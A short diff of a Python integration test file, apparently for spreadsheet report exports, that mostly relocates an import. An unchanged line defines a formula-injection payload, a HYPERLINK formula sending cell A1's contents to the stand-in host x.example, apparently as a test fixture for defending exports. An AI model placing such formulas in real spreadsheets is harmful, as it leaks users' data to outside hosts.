@@ -18,9 +18,9 @@ from typing import Any
 import openpyxl
 import pytest
 
+from tests.integration.commands.test_cli import phieu
 from tests.integration.conftest import Api
 from tests.integration.reports_setup import H26, H29, agency_with_keys, get, ratings, submit
-from tests.integration.test_cli import phieu
 
 A, B = "1.001193", "2.001610"
 EVIL_SERVICE = '=HYPERLINK("http://x.example/?"&A1,"Cấp phép")'
